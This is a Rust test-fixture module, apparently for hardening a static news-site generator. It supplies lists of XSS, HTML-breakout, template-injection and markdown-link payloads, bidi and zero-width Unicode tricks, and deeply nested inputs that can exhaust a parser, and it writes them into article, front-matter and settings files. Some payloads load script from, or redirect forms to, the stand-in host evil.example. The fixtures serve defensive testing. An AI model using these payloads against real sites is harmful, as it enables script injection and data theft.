//! The attacks, and the articles and content files that hold them.

use tests::project::Project;

/// Attacks by case. Every one is shown as written by a plain text.
pub(crate) const CASES: &[(&str, &[&str])] = &[
    (
        "script",
        &[
            "<script>alert(1)</script>",
            "</script><script src=//evil.example/x.js></script>",
            "<scr<script>ipt>alert(1)</scr</script>ipt>",
            "<ScRiPt\u{a0}x>alert(1)</sCrIpT >",
            "<style>*{display:none}</style>",
        ],
    ),
    (
        "handler",
        &[
            "<img src=x onerror=alert(1)>",
            "<svg/onload=alert(1)>",
            "\" autofocus onfocus=\"alert(1)",
            "' onmouseover='alert(1)",
            "` onmouseover=`alert(1)",
            "<details open ontoggle=alert(1)>",
        ],
    ),
    (
        "address",
        &[
            "javascript:alert(1)",
            "JaVaScRiPt:alert(1)",
            "java\u{a0}script:alert(1)",
            "data:text/html,<script>alert(1)</script>",
            "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
            "vbscript:msgbox(1)",
            "//evil.example/x",
            "https://evil.example/\"><script>alert(1)</script>",
        ],
    ),
    (
        "html",
        &[
            "</title></head><body>",
            "</main></body></html>",
            "<!-- hidden",
            "<![CDATA[ x ]]>",
            "]]>",
            "<base href=//evil.example/>",
            "<meta http-equiv=refresh content=0;url=//evil.example>",
            "<iframe src=//evil.example></iframe>",
            "<form action=//evil.example><input name=x></form>",
            "<plaintext>",
            "<textarea>",
            "&lt;script&gt;alert(1)&lt;/script&gt;",
            "&#60;script&#62;alert(1)",
            "&#x3c;b&#x3e",
            "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        ],
    ),
    (
        "template",
        &[
            "{{ site.title }}",
            "{{ 7 * 7 }}",
            "{% include \"base.html\" %}",
            "{% for x in range(1000000000) %}x{% endfor %}",
            "{# hidden #}",
            "{{ \"\" | safe }}",
            "${7*7} #{7*7} <%= 7*7 %>",
            "{name} {n} {0}",
        ],
    ),
    (
        "markdown",
        &[
            "](javascript:alert(1))",
            "[click](javascript:alert(1))",
            "![x](//evil.example/x.png)",
            "[x]: javascript:alert(1)",
            "<javascript:alert(1)>",
            "**bold** _it_ `code` ~~no~~",
            "``` a",
            "> quoted",
            "- item",
            "1) item",
            "# head",
            "\\",
            "| a | b |",
            "a](../people/ann-lee.md) [b",
            "[^1] [^1]: note",
        ],
    ),
];

/// Attacks that are not shown as written: characters without a shape, or that turn the order of what is read.
pub(crate) const UNSEEN: &[(&str, &str)] = &[
    ("Ana \u{202e}agoriuQ", "Ana agoriuQ"),
    ("Ana \u{2066}Quiroga\u{2069}", "Ana Quiroga"),
    ("Ana Qui\u{200b}roga", "Ana Quiroga"),
    ("A\u{ad}na Quiroga\u{feff}", "Ana Quiroga"),
    ("Ana \u{1b}[31mQuiroga\u{7}", "Ana [31mQuiroga"),
];

pub(crate) const SETTINGS: &str = r#"
base_url = "https://example.org/"
title = "</title><script>alert(1)</script> {{ 7 * 7 }}"
description = "\"><img src=x onerror=alert(1)>"
author = "<b>Ann</b>"
"#;

/// An article with an attack wherever an article may have one.
pub(crate) fn article(attack: &str) -> String {
    format!(
        "Talks on {attack} begin\n\nQUITO, Ecuador (Wire) - President Ana {attack} Quiroga met Bob Ray of \
         {attack} Bank in Lima on Monday.\n\n\"{attack} {attack},\" said Ana Quiroga, the president.\n\n\
         {attack}\n\n- {attack}\n\nThe talks end on Friday, officials say.\n"
    )
}

/// A TOML string of a text.
fn quoted(text: &str) -> String {
    let escape = |c: char| match c {
        '"' | '\\' => format!("\\{c}"),
        c if c.is_control() => format!("\\u{:04x}", c as u32),
        c => c.to_string(),
    };
    format!("\"{}\"", text.chars().map(escape).collect::<String>())
}

/// Writes an attack in every form.
pub(crate) fn add(project: &Project, name: &str, attack: &str) {
    let (text, value) = (article(attack), quoted(attack));
    project.write(&format!("seeds/text-{name}.txt"), &text);
    project.write(&format!("seeds/marked-{name}.md"), &text);
    project.write(
        &format!("seeds/page-{name}.html"),
        format!("<html><head><title>{attack}</title></head><body><article><p>{text}</article></body></html>"),
    );
    let keys = format!(
        "title = {value}\nauthor = {value}\nlanguage = {value}\nsource = {{ name = {value}, url = {value} }}\n{value} = 1\n"
    );
    project.write(&format!("seeds/front-{name}.txt"), format!("+++\n{keys}+++\n{text}"));
    let person = format!("name = {value}\naliases = [{value}]\nsame_as = [{value}]\nwikidata = {value}\n");
    project.write(&format!("content/people/hand-{name}.md"), format!("+++\n{person}+++\n\n{attack}\n"));
    let hand = format!(
        "+++\n{}undecided = [{value}]\n\n[[quotes]]\ntext = \"what we want\"\nspeaker_text = {value}\ncue = {value}\n+++\n\n\
         [{attack}](../people/hand-{name}.md) said: \"what we want\".\n\n- {attack}\n",
        keys.trim_end_matches(&format!("{value} = 1\n"))
    );
    project.write(&format!("content/articles/hand-{name}.md"), hand);
}

/// The names of the attacks of a case, with the attacks.
pub(crate) fn named(case: &str) -> Vec<(String, &'static str)> {
    let (_, attacks) = CASES.iter().find(|(known, _)| *known == case).expect("a case of the list");
    attacks.iter().enumerate().map(|(at, attack)| (format!("{case}-{at}"), *attack)).collect()
}

/// Texts that make careless programs slow or overflow their stack, with the forms in which they might.
pub(crate) fn heavy() -> Vec<(String, &'static [&'static str])> {
    #[rustfmt::skip] // One piece a line would hide the code below it.
    let nested = [
        "<div>", "<b><i>", "<table><td>", "<a href=x>", "<!--", "<svg><g>", "<select>", "> ", "- ", "1. ",
        "[", "![", "*", "**a ", "_", "`", "(", "\"", "“", "‘", "{{", "{%", "\\", "&", "&#", "[a](", "<",
    ];
    #[rustfmt::skip] // One piece a line would hide the code below it.
    let long = [
        "a", "a ", "A ", "a.", "A. ", "Mr. ", ".", "1,", "1", "1.", "$1 ", "said ", "\"a\" said ",
        "said Ana. ", "January ", "of the ", "President of ", "Ana's ", "Ana and ", "who ", "Ana, ",
        "not ", "-", "U.S.", "@", "\n", " \n\n ", "\n- ", "éé", "\u{301}", "Monday, ", "five ",
        "hundred ", "the ", "that he said that ", "http://", "1/1/", "–",
    ];
    let (every, plain): (&[&str], &[&str]) = (&["txt", "md", "html"], &["txt"]);
    let nested = nested.iter().map(|piece| (piece.repeat(10_000), every));
    let long = long.iter().map(|piece| (piece.repeat(10_000 / piece.len()), plain));
    nested.chain(long).collect()
}
